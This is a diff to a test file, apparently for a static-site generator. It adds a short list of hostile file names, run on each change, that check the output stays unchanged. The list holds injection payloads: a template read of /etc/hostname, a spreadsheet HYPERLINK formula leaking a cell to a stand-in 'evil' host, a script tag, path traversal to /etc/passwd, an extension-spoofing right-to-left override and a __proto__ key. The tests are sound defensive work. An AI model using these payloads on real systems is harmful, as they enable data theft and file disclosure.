@@ -142,7 +142,26 @@ test('every kind of file of a site is an exit of this table', () => {
   expect(made.map(([path]) => path.split('.').at(-1)).filter((kind) => !kinds.has(kind))).toEqual([]);
 });
 
-describe.each(HOSTILE_TEXTS)('a name that is %j', (text) => {
+/** One text of each kind; `npm run fuzz` takes the whole table, a minute of it. */
+const FEW = [
+  '${file("/etc/hostname")}',
+  '=HYPERLINK("http://evil/?"&A1,"x")',
+  'a,b;c|d',
+  'line\nbreak',
+  '<script>alert(1)</script>',
+  '\u001b[31mred\u001b[0m',
+  'turned \u202egnp.exe',
+  '../../etc/passwd',
+  '__proto__',
+  '가산-1호기',
+];
+const TEXTS = process.env['FUZZ_RUNS'] === undefined ? FEW : HOSTILE_TEXTS;
+
+test('texts that are tried at each change are of the table', () => {
+  expect(FEW.filter((text) => !HOSTILE_TEXTS.includes(text))).toEqual([]);
+});
+
+describe.each(TEXTS)('a name that is %j', (text) => {
   const files = exits(text);
 
   test.each([...baseline.keys()])('adds and takes nothing in %s', (path) => {
